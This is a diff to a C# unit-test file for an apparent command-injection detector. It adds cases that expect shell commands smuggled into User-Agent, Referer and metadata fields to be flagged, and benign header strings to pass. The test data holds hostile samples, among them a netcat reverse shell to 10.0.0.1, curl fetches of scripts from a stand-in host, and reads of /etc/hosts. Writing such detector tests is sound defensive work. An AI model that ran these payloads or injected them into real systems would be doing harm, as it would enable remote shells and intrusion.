@@ -10,6 +10,21 @@ namespace FunctionShield.Tests.Detection;
 public class CommandInjectionTests
 {
     [Theory]
+    [InlineData("Mozilla/5.0; cat /etc/hosts", nameof(FieldKind.UserAgent))]
+    [InlineData("Mozilla && curl http://a.example/p.sh", nameof(FieldKind.UserAgent))]
+    [InlineData("https://shop.example/x; cat /etc/hosts", nameof(FieldKind.Referer))]
+    [InlineData("eu-west-1; cat /etc/hosts", nameof(FieldKind.Metadata))]
+    public void A_program_with_a_place_is_told_wherever_it_stands(string value, string kind) => Assert.Equal(Confidence.Medium, Ask(value, Enum.Parse<FieldKind>(kind)));
+
+    [Theory]
+    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", nameof(FieldKind.UserAgent))]
+    [InlineData("Mozilla/5.0 (compatible; bot/2.1; +http://bot.example/about)", nameof(FieldKind.UserAgent))]
+    [InlineData("curl/8.5.0; http://a.example/", nameof(FieldKind.UserAgent))]
+    [InlineData("https://shop.example/x;sort=cat?path=/etc", nameof(FieldKind.Referer))]
+    [InlineData("text/html; charset=utf-8", nameof(FieldKind.Metadata))]
+    public void What_browsers_and_AWS_write_is_no_command(string value, string kind) => Assert.Null(Ask(value, Enum.Parse<FieldKind>(kind)));
+
+    [Theory]
     [InlineData("8.8.8.8; cat /etc/hosts")]
     [InlineData("x | nc 10.0.0.1 99 -e /bin/sh")]
     [InlineData("report.pdf&& curl http://a.example/x")]
